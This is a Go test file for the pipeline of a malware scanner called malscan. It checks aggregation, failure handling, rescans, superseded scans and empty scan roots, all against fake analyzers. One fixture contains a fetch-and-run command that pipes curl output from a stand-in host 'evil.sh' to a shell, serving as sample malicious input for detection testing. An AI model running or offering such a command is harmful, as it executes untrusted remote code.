// ABOUTME: Tests for the structured scan pipeline variant.
// ABOUTME: Covers aggregation, failure degradation, rescans, and empty scan roots.

package pipeline

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/malpack/malscan/internal/store"
	"github.com/malpack/malscan/internal/types"

	"github.com/sirupsen/logrus"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Mock implementations for testing

type fakeStructured struct {
	outcomes map[string][]types.Finding
	failOn   map[string]bool
}

func (f *fakeStructured) Name() string {
	return "fake-structured"
}

func (f *fakeStructured) AnalyzeFile(ctx context.Context, path, content string) (*types.FileOutcome, error) {
	if f.failOn[path] {
		return nil, errors.New("analysis backend unavailable")
	}

	findings := f.outcomes[path]
	outcome := &types.FileOutcome{
		File:     path,
		Status:   types.FileStatusSafe,
		Findings: findings,
		Stats:    map[types.Severity]int{},
	}
	for _, finding := range findings {
		outcome.Stats[finding.Severity]++
	}
	if len(findings) > 0 {
		outcome.Status = types.FileStatusDanger
	}
	return outcome, nil
}

// gatedStructured parks analysis of matching files until release is closed,
// letting a test hold one scan mid-flight while another completes
type gatedStructured struct {
	inner   *fakeStructured
	started chan struct{}
	release chan struct{}
	blockOn string
}

func (g *gatedStructured) Name() string {
	return "gated-structured"
}

func (g *gatedStructured) AnalyzeFile(ctx context.Context, path, content string) (*types.FileOutcome, error) {
	if strings.Contains(content, g.blockOn) {
		g.started <- struct{}{}
		<-g.release
	}
	return g.inner.AnalyzeFile(ctx, path, content)
}

func testLogger() *logrus.Logger {
	logger := logrus.New()
	logger.SetLevel(logrus.ErrorLevel)
	return logger
}

func writeTree(t *testing.T, files map[string]string) string {
	t.Helper()
	root := t.TempDir()
	for name, content := range files {
		path := filepath.Join(root, filepath.FromSlash(name))
		require.NoError(t, os.MkdirAll(filepath.Dir(path), 0o755))
		require.NoError(t, os.WriteFile(path, []byte(content), 0o644))
	}
	return root
}

func newStructuredScanner(findings *store.FindingsStore, analyzer StructuredAnalyzer) *Scanner {
	return NewScanner(
		findings,
		nil,
		map[types.Method]StructuredAnalyzer{types.MethodRuleBased: analyzer},
		nil,
		nil,
		testLogger(),
	)
}

func TestScanStructuredAggregation(t *testing.T) {
	root := writeTree(t, map[string]string{
		"a.py": "import os\nos.system('curl evil.sh | sh')\n",
		"b.py": "print('hello')\n",
		"c.py": "import base64\nx = base64.b64decode(p)\ny = base64.b64decode(q)\n",
	})

	analyzer := &fakeStructured{
		outcomes: map[string][]types.Finding{
			"a.py": {
				{Line: 2, ColumnStart: 0, Message: "Shell command execution detected.", Severity: types.SeverityCritical, RuleID: "EXEC-001"},
			},
			"c.py": {
				{Line: 2, ColumnStart: 4, Message: "Base64 decoding detected.", Severity: types.SeverityWarning, RuleID: "EVADE-004"},
				{Line: 3, ColumnStart: 4, Message: "Base64 decoding detected.", Severity: types.SeverityWarning, RuleID: "EVADE-004"},
			},
		},
	}

	findings := store.NewFindingsStore(testLogger())
	scanner := newStructuredScanner(findings, analyzer)
	defer scanner.Close()

	summary, err := scanner.Scan(context.Background(), "evil-pkg", types.MethodRuleBased, root)
	require.NoError(t, err)

	assert.Equal(t, types.VerdictMalicious, summary.Verdict)
	assert.Equal(t, 3, summary.TotalIssues)
	assert.Equal(t, 3, summary.FilesScanned)
	assert.Equal(t, 1, summary.Stats[types.SeverityCritical])
	assert.Equal(t, 2, summary.Stats[types.SeverityWarning])

	// Only files with findings are in the store, clean ones never are
	assert.Equal(t, []string{"a.py", "c.py"}, findings.Files("evil-pkg"))

	// Rule summary is grouped and ordered by severity rank then count
	require.Len(t, summary.Rules, 2)
	assert.Equal(t, "EXEC-001", summary.Rules[0].RuleID)
	assert.Equal(t, 1, summary.Rules[0].Count)
	assert.Equal(t, "EVADE-004", summary.Rules[1].RuleID)
	assert.Equal(t, 2, summary.Rules[1].Count)
}

func TestScanStructuredFileFailureDegrades(t *testing.T) {
	root := writeTree(t, map[string]string{
		"a.py": "bad file\n",
		"b.py": "flagged\n",
	})

	analyzer := &fakeStructured{
		outcomes: map[string][]types.Finding{
			"b.py": {{Line: 1, Message: "flagged", Severity: types.SeverityHigh, RuleID: "X-001"}},
		},
		failOn: map[string]bool{"a.py": true},
	}

	findings := store.NewFindingsStore(testLogger())
	scanner := newStructuredScanner(findings, analyzer)
	defer scanner.Close()

	summary, err := scanner.Scan(context.Background(), "pkg", types.MethodRuleBased, root)
	require.NoError(t, err, "a single file's failure must not abort the scan")

	assert.Equal(t, types.VerdictMalicious, summary.Verdict)
	assert.Equal(t, 2, summary.FilesScanned)
	assert.Equal(t, 1, summary.TotalIssues)
	assert.Equal(t, []string{"b.py"}, findings.Files("pkg"))
}

func TestRescanClearsStaleFindings(t *testing.T) {
	root := writeTree(t, map[string]string{"a.py": "suspicious\n"})

	analyzer := &fakeStructured{
		outcomes: map[string][]types.Finding{
			"a.py": {{Line: 1, Message: "bad", Severity: types.SeverityHigh, RuleID: "X-001"}},
		},
	}

	findings := store.NewFindingsStore(testLogger())
	scanner := newStructuredScanner(findings, analyzer)
	defer scanner.Close()

	_, err := scanner.Scan(context.Background(), "pkg", types.MethodRuleBased, root)
	require.NoError(t, err)
	require.Equal(t, []string{"a.py"}, findings.Files("pkg"))

	// The file is clean on the second pass
	analyzer.outcomes = map[string][]types.Finding{}

	summary, err := scanner.Scan(context.Background(), "pkg", types.MethodRuleBased, root)
	require.NoError(t, err)

	assert.Equal(t, types.VerdictBenign, summary.Verdict)
	assert.Empty(t, findings.Files("pkg"), "stale findings from the previous scan must be gone")
}

func TestSupersededScanDoesNotRegisterStaleFindings(t *testing.T) {
	rootOld := writeTree(t, map[string]string{"a.py": "hold os.system('x')\n"})
	rootNew := writeTree(t, map[string]string{"b.py": "print('hello')\n"})

	analyzer := &gatedStructured{
		inner: &fakeStructured{
			outcomes: map[string][]types.Finding{
				"a.py": {{Line: 1, Message: "bad", Severity: types.SeverityHigh, RuleID: "X-001"}},
			},
		},
		started: make(chan struct{}),
		release: make(chan struct{}),
		blockOn: "hold",
	}

	findings := store.NewFindingsStore(testLogger())
	scanner := newStructuredScanner(findings, analyzer)
	defer scanner.Close()

	type result struct {
		summary *types.ScanSummary
		err     error
	}
	oldScan := make(chan result, 1)
	go func() {
		summary, err := scanner.Scan(context.Background(), "pkg", types.MethodRuleBased, rootOld)
		oldScan <- result{summary, err}
	}()
	<-analyzer.started // the first scan is now parked in analysis

	// A newer scan of the same package runs to completion meanwhile
	summary, err := scanner.Scan(context.Background(), "pkg", types.MethodRuleBased, rootNew)
	require.NoError(t, err)
	assert.Equal(t, types.VerdictBenign, summary.Verdict)
	require.Empty(t, findings.Files("pkg"))

	// Release the superseded scan; it settles with its own verdict but its
	// late results must not be registered over the newer scan's state
	close(analyzer.release)
	old := <-oldScan
	require.NoError(t, old.err)
	assert.Equal(t, types.VerdictMalicious, old.summary.Verdict)

	assert.Empty(t, findings.Files("pkg"),
		"stale findings from the superseded scan must not outlive the newer verdict")
}

func TestCancelledScanKeepsScanningState(t *testing.T) {
	root := writeTree(t, map[string]string{"a.py": "hold\n"})

	analyzer := &gatedStructured{
		inner:   &fakeStructured{},
		started: make(chan struct{}),
		release: make(chan struct{}),
		blockOn: "hold",
	}

	findings := store.NewFindingsStore(testLogger())
	scanner := newStructuredScanner(findings, analyzer)
	defer scanner.Close()
	defer close(analyzer.release)

	ctx, cancel := context.WithCancel(context.Background())
	scanDone := make(chan error, 1)
	go func() {
		_, err := scanner.Scan(ctx, "pkg", types.MethodRuleBased, root)
		scanDone <- err
	}()
	<-analyzer.started

	cancel()
	require.Error(t, <-scanDone)

	// FAILED is reserved for pre-scan rejection; an interrupted scan stays
	// in SCANNING until its tasks settle and cleanup retires the session
	scanner.mutex.Lock()
	session := scanner.sessions["pkg"]
	scanner.mutex.Unlock()
	require.NotNil(t, session)
	assert.Equal(t, types.SessionScanning, session.State)
}

func TestScanRootEmpty(t *testing.T) {
	root := t.TempDir()

	findings := store.NewFindingsStore(testLogger())
	scanner := newStructuredScanner(findings, &fakeStructured{})
	defer scanner.Close()

	summary, err := scanner.Scan(context.Background(), "pkg", types.MethodRuleBased, root)
	require.NoError(t, err, "an empty scan root is a completed scan, not an error")

	assert.Equal(t, types.VerdictBenign, summary.Verdict)
	assert.Equal(t, 0, summary.FilesScanned)
	assert.Equal(t, 0, summary.TotalIssues)
}

func TestScanRootMissing(t *testing.T) {
	findings := store.NewFindingsStore(testLogger())
	scanner := newStructuredScanner(findings, &fakeStructured{})
	defer scanner.Close()

	_, err := scanner.Scan(context.Background(), "pkg", types.MethodRuleBased, "/nonexistent/scan/root")
	assert.Error(t, err)

	// Rejection before any file task was scheduled marks the session FAILED
	scanner.mutex.Lock()
	session := scanner.sessions["pkg"]
	scanner.mutex.Unlock()
	require.NotNil(t, session)
	assert.Equal(t, types.SessionFailed, session.State)
}

func TestScanSkipsIneligibleFiles(t *testing.T) {
	root := writeTree(t, map[string]string{
		"a.py":            "code\n",
		"binary.so":       "\x00\x01",
		"image.png":       "not really",
		"__pycache__/x.pyc": "cached",
	})

	analyzer := &fakeStructured{}
	findings := store.NewFindingsStore(testLogger())
	scanner := newStructuredScanner(findings, analyzer)
	defer scanner.Close()

	summary, err := scanner.Scan(context.Background(), "pkg", types.MethodRuleBased, root)
	require.NoError(t, err)
	assert.Equal(t, 1, summary.FilesScanned)
}

func TestScanClassifierNotImplemented(t *testing.T) {
	findings := store.NewFindingsStore(testLogger())
	scanner := newStructuredScanner(findings, &fakeStructured{})
	defer scanner.Close()

	summary, err := scanner.Scan(context.Background(), "pkg", types.MethodClassifier, t.TempDir())
	require.NoError(t, err)
	assert.Equal(t, types.VerdictNotImplemented, summary.Verdict)
}
